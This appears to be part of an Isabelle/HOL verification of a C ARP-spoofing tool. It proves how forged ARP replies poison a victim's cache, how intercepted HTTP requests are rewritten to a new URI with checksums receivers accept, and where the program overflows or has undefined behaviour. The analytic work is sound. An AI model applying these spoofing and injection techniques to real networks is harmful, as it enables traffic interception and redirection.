  moreover have pp: "peek off n p = peek off n (wr 6 (myMAC m) (wr 0 (gatewayMAC m) b'))" if "off + n \<le> len" for off n
    unfolding p_def by (rule peek_take) (use that l b'(2) in simp_all)
  have "peek 0 6 p = Some (gatewayMAC m)" "peek 6 6 p = Some (myMAC m)" "peek 70 10 p = Some (new_uri page)"
    using macs l b'(2,3) by (simp_all add: pp) (simp_all add: buf_simps)
  moreover have out: "peek off n p = peek off n packet" if "12 \<le> off" "untouched off n" for off n
  proof (cases "off + n \<le> len")
    case True
    then have "peek off n p = peek off n b'" using pp that(1) macs by (simp add: peek_wr_other)
    also have "\<dots> = peek off n packet" using b'(5) that(2) pk True by simp
    finally show ?thesis .
  qed (simp add: peek_def lp flip: len_def)
  moreover have "Calculate_Pseudo_Checksum (p @ replicate (1518 - len) 0) len = Some 0"
  proof -
    let ?q = "p @ replicate (1518 - len) 0"
    have q: "length ?q = 1518" using lp l by simp
    have "peek off n ?q = peek off n b'" if "12 \<le> off" "off + n \<le> len" for off n
    proof -
      have "peek off n ?q = peek off n (take len ?q)" by (rule peek_take [symmetric]) (use that l lp in simp_all)
      also have "\<dots> = peek off n p" using lp by simp
      also have "\<dots> = peek off n b'" using pp [OF that(2)] that(1) macs by (simp add: peek_wr_other)
      finally show ?thesis .
    qed
    then have "pseudo_packet ?q len = pseudo_packet b' len"
      using unat_tcp_size [of len] l by (simp add: pseudo_packet_def Let_def)
    with b'(4) show ?thesis by (simp add: Calculate_Pseudo_Checksum_def)
  qed
  ultimately show ?thesis using that [of p] by (simp add: len_def)
qed

lemma Handle_IP_other:
  assumes "24 \<le> length packet" "length packet \<le> 1518"
    and "\<not> (peek 6 6 packet = Some (victimMAC m) \<and> get8 23 packet = Some 6 \<and>
      peek 70 10 (wr 0 packet (replicate 1518 0)) = Some http_get_request_changec)"
  shows "Handle_IP m packet = Ret () \<or>
    (\<exists>p. Handle_IP m packet = Call (Inject p) (\<lambda>r. if res r = -1 then Exit 1 else Ret ()))"
proof -
  obtain sh ip_p where h: "peek 6 6 packet = Some sh" "get8 23 packet = Some ip_p"
    using assms(1) by (simp add: peek_def get8_in)
  have "poke 0 packet (replicate 1518 0) = Some (wr 0 packet (replicate 1518 0))" using assms(2) by (simp add: poke_wr)
  with h assms(3) show ?thesis by (auto simp: Handle_IP_def)
qed

text \<open>The URI can only match within the captured bytes: the rest of the buffer is zero.\<close>

lemma uri_in_packet:
  assumes "length packet \<le> 1518" "peek 70 10 (wr 0 packet (replicate 1518 0)) = Some http_get_request_changec"
  shows "peek 70 10 packet = Some http_get_request_changec"
proof -
  let ?b = "wr 0 packet (replicate 1518 (0 :: u8))"
  have t: "take 10 (drop 70 ?b) = http_get_request_changec" using assms by (simp add: peek_def)
  have "?b ! 79 \<noteq> 0"
  proof -
    have "?b ! 79 = take 10 (drop 70 ?b) ! 9" using assms(1) by simp
    also have "\<dots> = 0x2f" unfolding t by (simp add: http_get_request_changec_def)
    finally show ?thesis by simp
  qed
  then have l: "79 < length packet" using assms(1) by (auto simp: nth_wr split: if_splits)
  have "peek 70 10 packet = peek 70 10 (take (length packet) ?b)" using assms(1) by (simp add: wr_def)
  also have "\<dots> = peek 70 10 ?b" by (rule peek_take) (use l assms(1) in simp_all)
  finally show ?thesis using assms(2) by simp
qed

text \<open>
  What a TCP receiver checks (RFC 793), stated without the code: the Internet checksum over source,
  destination, zero, protocol 6, the length of the segment and the segment, where the IP header
  says how long the two are.
\<close>

definition tcp_verifies :: "bytes \<Rightarrow> bool option" where
  "tcp_verifies frame =
     Option.bind (get8 14 frame) (\<lambda>version_ihl.
     Option.bind (get16 16 frame) (\<lambda>total.
     Option.bind (peek 26 4 frame) (\<lambda>src.
     Option.bind (peek 30 4 frame) (\<lambda>dst.
     let ihl = 4 * (unat version_ihl mod 16); tcp = unat (ntohs total) - ihl
     in map_option (\<lambda>segment.
          inet_checksum (src @ dst @ [0, 6, of_nat (tcp div 256), of_nat (tcp mod 256)] @ segment) = 0)
        (peek (14 + ihl) tcp frame)))))"

text \<open>For a packet without IP options or padding the code's pseudo header is the receiver's.\<close>

lemma u8_of_u16: "n < 65536 \<Longrightarrow> ucast (drop_bit 8 (of_nat n :: u16)) = (of_nat (n div 256) :: u8)"
  "n < 65536 \<Longrightarrow> ucast (of_nat n :: u16) = (of_nat (n mod 256) :: u8)"
proof -
  assume n: "n < 65536"
  then have u: "unat (of_nat n :: u16) = n" by (intro unat_of_nat_small) simp
  show "ucast (drop_bit 8 (of_nat n :: u16)) = (of_nat (n div 256) :: u8)"
  proof -
    have "unat (drop_bit 8 (of_nat n :: u16)) = n div 256" using unat_drop_bit_eq [of 8 "of_nat n :: u16"] u drop_bit_eq_div [of 8 n] by (simp only: u) simp
    then show ?thesis by (metis of_nat_unat)
  qed
  show "ucast (of_nat n :: u16) = (of_nat (n mod 256) :: u8)"
    by (rule word_unat_eq_iff [THEN iffD2]) (simp add: unsigned_ucast_eq u unsigned_of_nat take_bit_eq_mod mod_less [OF n])
qed

lemma tcp_verifies_pseudo:
  assumes "80 \<le> length p" "length p \<le> 1518" "get8 14 p = Some 0x45" "get16 16 p = Some (htons (of_nat (length p - 14)))"
    and "Calculate_Pseudo_Checksum (p @ replicate (1518 - length p) 0) (length p) = Some 0"
  shows "tcp_verifies p = Some True"
proof -
  let ?n = "length p - 34"
  have w: "(of_nat (length p) - 14 - 20 :: u16) = of_nat ?n" using assms(1) by (simp add: of_nat_diff)
  have total: "unat (of_nat (length p - 14) :: u16) = length p - 14"
    by (rule unat_of_nat_small) (use assms(2) in simp)
  have ihl: "4 * (unat (0x45 :: u8) mod 16) = 20" by simp
  define b where "b = take 4 (drop 26 p) @ take 4 (drop 30 p) @ [0, 6, of_nat (?n div 256), of_nat (?n mod 256)] @ drop 34 p"
  have "pseudo_packet (p @ replicate (1518 - length p) 0) (length p) = Some b"
    using pseudo_packet_eq [of "length p" "p @ replicate (1518 - length p) 0"] assms(1,2) u8_of_u16 [of ?n]
    by (simp add: w b_def)
  with assms(5) have "Calculate_Checksum b = 0" by (simp add: Calculate_Pseudo_Checksum_def)
  moreover have "length b \<le> 2 ^ 48 - 1" using assms(2) by (simp add: b_def)
  ultimately have "inet_checksum b = 0" using spoofer.ck_spec [of b] by simp
  moreover have "peek 26 4 p = Some (take 4 (drop 26 p))" "peek 30 4 p = Some (take 4 (drop 30 p))"
      "peek 34 ?n p = Some (drop 34 p)"
    using assms(1) by (simp_all add: peek_def)
  ultimately show ?thesis
    by (simp add: tcp_verifies_def assms(3,4) total ihl Let_def b_def)
qed

section \<open>main\<close>

lemma c_str_strncat:
  assumes "strncat d s = Some d'" "0 \<notin> set s" "c_str d = Some t"
  shows "c_str d' = Some (t @ s)"
proof -
  obtain rest where d: "d = t @ 0 # rest" using c_str_prefix [OF assms(3)] by blast
  have "d' = wr (length t) (s @ [0]) d" "length t + length s + 1 \<le> length d"
    using assms(1) by (auto simp: strncat_def assms(3) poke_def split: if_splits)
  then have "d' = t @ s @ 0 # drop (length t + length s + 1) d" by (simp add: wr_def) (simp add: d)
  then show ?thesis using c_str_append [of "t @ s"] assms(2) c_str_no_zero [OF assms(3)] by simp
qed

lemma length_strncat: "strncat d s = Some d' \<Longrightarrow> length d' = length d"
  by (auto simp: strncat_def dest: length_poke elim: bind_SomeE)

lemma filter_text_iff:
  assumes "2 < length argv" "0 \<notin> set (argv ! 2)" "\<And>n. length (heap n) = n"
  shows "filter_text heap argv \<noteq> None \<longleftrightarrow> heap (length (argv ! 2) + 6) ! 0 = 0"
proof -
  let ?n = "length (argv ! 2) + 6"
  let ?d = "heap ?n"
  have host: "0 \<notin> set (bytes_of ''host '')" by (simp add: bytes_of_def)
  have f: "filter_text heap argv = Option.bind (strncat ?d (bytes_of ''host '')) (\<lambda>d. strncat d (argv ! 2))"
    using assms(1) by (simp add: filter_text_def add.commute numeral_eq_Suc)
  have step: "Option.bind (strncat ?d (bytes_of ''host '')) (\<lambda>d. strncat d (argv ! 2)) \<noteq> None \<longleftrightarrow>
      (\<exists>t. c_str ?d = Some t \<and> t = [])"
  proof (cases "c_str ?d")
    case None
    then show ?thesis by (simp add: strncat_def)
  next
    case (Some t)
    show ?thesis
    proof (cases "strncat ?d (bytes_of ''host '')")
      case None
      then show ?thesis using Some by (auto simp: strncat_def poke_def assms(3) split: if_splits)
    next
      case d1: (Some d1)
      have "c_str d1 = Some (t @ bytes_of ''host '')" by (rule c_str_strncat [OF d1 host Some])
      then have "strncat d1 (argv ! 2) \<noteq> None \<longleftrightarrow> length t + 5 + length (argv ! 2) + 1 \<le> ?n"
        using length_strncat [OF d1] by (auto simp: strncat_def poke_def assms(3))
      then show ?thesis using Some d1 by auto
    qed
  qed
  obtain x xs where x: "?d = x # xs" using assms(3) [of ?n] by (cases ?d) auto
  have "(\<exists>t. c_str ?d = Some t \<and> t = []) \<longleftrightarrow> x = 0" by (auto simp: x)
  then show ?thesis using f step x by simp
qed

section \<open>Properties\<close>

text \<open>
  C10. When the victim asks for Dr. Chang's page (in a packet without IP options or padding), the
  packet the attacker injects differs from the victim's in the MAC addresses, the URI and the TCP
  checksum only, and a TCP receiver accepts its checksum.
\<close>

theorem redirect_verifies:
  assumes "length packet \<le> 1518" "wf_spoof m" "c_str (target_page m) = Some page"
    and "peek 6 6 packet = Some (victimMAC m)" "get8 23 packet = Some 6"
    and "peek 70 10 packet = Some http_get_request_changec"
    and "get8 14 packet = Some 0x45" "get16 16 packet = Some (htons (of_nat (length packet - 14)))"
    and "execs (Handle_IP m packet) tr out"
  shows "\<exists>p r. tr = [(Inject p, r)] \<and> length p = length packet \<and>
    peek 0 6 p = Some (gatewayMAC m) \<and> peek 6 6 p = Some (myMAC m) \<and> peek 70 10 p = Some (new_uri page) \<and>
    tcp_verifies p = Some True \<and>
    (\<forall>off n. 12 \<le> off \<longrightarrow> untouched off n \<longrightarrow> peek off n p = peek off n packet)"
proof (rule Handle_IP_redirect [OF assms(1-6)])
  fix p
  assume p: "Handle_IP m packet = Call (Inject p) (\<lambda>r. if res r = -1 then Exit 1 else Ret ())"
    and l: "length p = length packet" and rest: "peek 0 6 p = Some (gatewayMAC m)" "peek 6 6 p = Some (myMAC m)"
    "peek 70 10 p = Some (new_uri page)"
    and ck: "Calculate_Pseudo_Checksum (p @ replicate (1518 - length p) 0) (length p) = Some 0"
    and same: "\<And>off n. 12 \<le> off \<Longrightarrow> untouched off n \<Longrightarrow> peek off n p = peek off n packet"
  from assms(9) obtain r where "tr = [(Inject p, r)]" by (auto simp: p execs_Call split: if_splits)
  moreover have "80 \<le> length packet" using assms(6) by (auto simp: peek_def split: if_splits)
  moreover have "get8 14 p = get8 14 packet" "get16 16 p = get16 16 packet"
    using same [of 14 1] same [of 16 2] by (simp_all add: get8_peek get16_peek untouched_def)
  with assms(7,8) l have "tcp_verifies p = Some True"
    by (intro tcp_verifies_pseudo) (use assms(1) ck \<open>80 \<le> length packet\<close> in simp_all)
  ultimately show ?thesis using l rest same by blast
qed

text \<open>
  C16. \<open>Handle_IP\<close> copies the captured bytes without looking at their number: for a packet that
  has an IP header it is undefined exactly when more than 1518 bytes were captured.
\<close>

theorem Handle_IP_overflow_iff:
  assumes "24 \<le> length packet" "wf_spoof m" "c_str (target_page m) = Some page"
  shows "(\<exists>tr. execs (Handle_IP m packet) tr Undefined) \<longleftrightarrow> 1518 < length packet"
proof (cases "1518 < length packet")
  case True
  then have "Handle_IP m packet = Ub" by (simp add: Handle_IP_def poke_def)
  with True show ?thesis by simp
next
  case False
  then have l: "length packet \<le> 1518" by simp
  have "\<not> execs (Handle_IP m packet) tr Undefined" for tr
  proof (cases "peek 6 6 packet = Some (victimMAC m) \<and> get8 23 packet = Some 6 \<and>
      peek 70 10 (wr 0 packet (replicate 1518 0)) = Some http_get_request_changec")
    case True
    then have h: "peek 6 6 packet = Some (victimMAC m)" "get8 23 packet = Some 6"
        "peek 70 10 packet = Some http_get_request_changec" using uri_in_packet [OF l] by simp_all
    obtain p where "Handle_IP m packet = Call (Inject p) (\<lambda>r. if res r = -1 then Exit 1 else Ret ())"
      by (rule Handle_IP_redirect [OF l assms(2,3) h])
    then show ?thesis by (auto simp: execs_Call split: if_splits)
  next
    case False
    from Handle_IP_other [OF assms(1) l this] show ?thesis by (auto simp: execs_Call split: if_splits)
  qed
  with False show ?thesis by blast
qed

text \<open>
  C17. The forged reply does not say what the comments say: it is sent to the victim and claims
  that the victim's own address, not the gateway's, is at the attacker's MAC.  It is the same
  whatever the uninitialised frame held.
\<close>

theorem poison_claims_victim:
  assumes "wf_spoof m" "length frame = 42" "execs (poison frame m) tr out"
  shows "out = Done () \<and> (\<exists>f. [g. (Sendpacket g, r) \<leftarrow> tr] = [f] \<and> length f = 42 \<and>
    peek 0 6 f = Some (victimMAC m) \<and> is_arp f 2 (myMAC m) (victimIP m) (myMAC m) (gatewayIP m))"
proof -
  obtain f where f: "arp_bytes False (myMAC m) (gatewayIP m) (victimMAC m) (victimIP m) frame = Some f" "length f = 42"
    "peek 0 6 f = Some (victimMAC m)" "is_arp f (if False then 1 else 2) (myMAC m) (victimIP m) (myMAC m) (gatewayIP m)"
    by (rule arp_bytes_ok [OF assms(2), of "myMAC m" "victimMAC m" "gatewayIP m" "victimIP m" False])
       (use assms(1) in \<open>simp_all add: wf_spoof_def\<close>)
  with assms(3) show ?thesis
    by (auto simp: poison_def ARP_Inject_def Create_ARP_Packet_def execs_Call split: if_splits)
qed

text \<open>
  A MAC address printed by \<open>mac_ntos\<close> has 17 characters, so that it fits the buffers of 18
  and 20 bytes with its zero, and \<open>mac_ston\<close> reads it back whatever the array held.
\<close>

theorem mac_text_roundtrip:
  assumes "length mac = 6" "length old = 6"
  shows "length (mac_ntos mac) = 17 \<and> mac_ston (mac_ntos mac @ 0 # rest) old = mac"
proof -
  obtain a b c d e f where "mac = [a, b, c, d, e, f]"
    using assms(1) by (auto simp: length_Suc_conv numeral_eq_Suc)
  then have "length (mac_ntos mac) = 17" by (simp add: mac_ntos_def hex2_def)
  then show ?thesis using mac_ston_ntos [OF assms] by simp
qed

text \<open>
  \<open>main\<close> appends to a block fresh from \<open>malloc\<close> and reads \<open>argv[2]\<close> before it checks the
  arguments: the start of the program is defined exactly when there are two arguments and the
  first byte of the block happens to be zero.
\<close>

theorem main_spoofer_start_defined_iff:
  assumes "\<And>n. length (heap n) = n" "\<forall>a \<in> set argv. 0 \<notin> set a" "length argv \<noteq> 4"
  shows "main_spoofer inet_aton heap frame n tv argv =
    (if 2 < length argv \<and> heap (length (argv ! 2) + 6) ! 0 = 0 then Exit 1 else Ub)"
proof (cases "2 < length argv")
  case True
  then have "0 \<notin> set (argv ! 2)" using assms(2) by simp
  from filter_text_iff [OF True this assms(1)] True assms(3) show ?thesis
    by (auto simp: main_spoofer_def need_def split: option.split)
qed (simp add: main_spoofer_def filter_text_def)

section \<open>Witnesses\<close>

definition sample_spoof :: myStruct where
  "sample_spoof = \<lparr>target_page = bytes_of ''liangzk'' @ [0], myMAC = [2, 0, 0, 0, 0, 1], victimMAC = [2, 0, 0, 0, 0, 2],
     gatewayMAC = [2, 0, 0, 0, 0, 3], victimIP = [10, 0, 0, 5], gatewayIP = [10, 0, 0, 1]\<rparr>"

lemma sample_spoof: "wf_spoof sample_spoof" "c_str (target_page sample_spoof) = Some (bytes_of ''liangzk'')"
proof -
  have "0 \<notin> set (bytes_of ''liangzk'')" by (simp add: bytes_of_def)
  then show "c_str (target_page sample_spoof) = Some (bytes_of ''liangzk'')"
    by (simp add: sample_spoof_def c_str_append)
qed (simp add: wf_spoof_def sample_spoof_def)

text \<open>A request of the victim: 70 bytes of headers, the URI.\<close>

definition sample_request :: bytes where
  "sample_request = [9, 9, 9, 9, 9, 9, 2, 0, 0, 0, 0, 2, 8, 0, 0x45, 0, 0, 66] @ replicate 5 0 @ [6] @ replicate 46 1 @ http_get_request_changec"

lemma sample_request:
  "length sample_request = 80" "peek 6 6 sample_request = Some (victimMAC sample_spoof)"
  "get8 23 sample_request = Some 6" "peek 70 10 sample_request = Some http_get_request_changec"
  "get8 14 sample_request = Some 0x45" "get16 16 sample_request = Some (htons (of_nat (length sample_request - 14)))"
proof -
  show "length sample_request = 80" by (simp add: sample_request_def)
  then show "get16 16 sample_request = Some (htons (of_nat (length sample_request - 14)))"
    by (intro get16I) (simp add: sample_request_def peek_def le16_def htons_def bswap16_def)
qed (simp_all add: sample_request_def peek_def get8_def sample_spoof_def nth_append)

theorem redirect_verifies_witness:
  "\<exists>p r. execs (Handle_IP sample_spoof sample_request) [(Inject p, r)] (Done ()) \<and>
     peek 70 10 p = Some http_get_request_liangzk \<and>
     tcp_verifies p = Some True"
proof -
  have l: "length sample_request \<le> 1518" by (simp add: sample_request(1))
  note h = redirect_verifies [OF l sample_spoof sample_request(2-6)]
  obtain tr out where e: "execs (Handle_IP sample_spoof sample_request) tr out" "\<forall>(c, r) \<in> set tr. r = answered"
    using execs_total [of "Handle_IP sample_spoof sample_request" "\<lambda>_. answered"] by blast
  from h [OF e(1)] obtain p r where p: "tr = [(Inject p, r)]" "peek 70 10 p = Some (new_uri (bytes_of ''liangzk''))"
    "tcp_verifies p = Some True"
    by (elim exE conjE) (rule that)
  obtain p' where "Handle_IP sample_spoof sample_request = Call (Inject p') (\<lambda>r. if res r = -1 then Exit 1 else Ret ())"
    by (rule Handle_IP_redirect [OF l sample_spoof sample_request(2-4)])
  with e p(1) have "out = Done ()" by (auto simp: execs_Call answered_def)
  moreover have "new_uri (bytes_of ''liangzk'') = http_get_request_liangzk" by (simp add: new_uri_def)
  ultimately show ?thesis using e(1) p by (intro exI [of _ p] exI [of _ r]) simp
qed

theorem Handle_IP_overflow_iff_witness:
  "\<exists>tr. execs (Handle_IP sample_spoof (replicate 2000 0)) tr Undefined"
proof -
  have "24 \<le> length (replicate 2000 (0 :: u8))" "1518 < length (replicate 2000 (0 :: u8))"
    unfolding length_replicate by simp_all
  with Handle_IP_overflow_iff [OF _ sample_spoof] show ?thesis by blast
qed

theorem poison_claims_victim_witness:
  "\<exists>tr f. execs (poison (replicate 42 0xAA) sample_spoof) tr (Done ()) \<and> [g. (Sendpacket g, r) \<leftarrow> tr] = [f] \<and>
     is_arp f 2 (myMAC sample_spoof) (victimIP sample_spoof) (myMAC sample_spoof) (gatewayIP sample_spoof)"
proof -
  let ?p = "poison (replicate 42 0xAA) sample_spoof"
  obtain tr out where e: "execs ?p tr out" using execs_total [of ?p "\<lambda>_. answered"] by blast
  have "length (replicate 42 (0xAA :: u8)) = 42" by (rule length_replicate)
  from poison_claims_victim [OF sample_spoof(1) this e] e show ?thesis by blast
qed

theorem mac_text_roundtrip_witness:
  "length (mac_ntos [0x08, 0x00, 0x27, 0xa6, 0x1f, 0x86]) = 17 \<and>
   mac_ston (mac_ntos [0x08, 0x00, 0x27, 0xa6, 0x1f, 0x86] @ 0 # [0, 0]) (replicate 6 0xff) = [0x08, 0x00, 0x27, 0xa6, 0x1f, 0x86]"
  using mac_text_roundtrip [of "[0x08, 0x00, 0x27, 0xa6, 0x1f, 0x86]" "replicate 6 0xff" "[0, 0]"] by simp

theorem main_spoofer_start_defined_iff_witness:
  "main_spoofer (\<lambda>_. None) (\<lambda>n. replicate n 7) (replicate 42 0) 5 0 [[97], [101], [49]] = Ub"
  using main_spoofer_start_defined_iff [of "\<lambda>n. replicate n 7" "[[97], [101], [49]]"] by simp

end
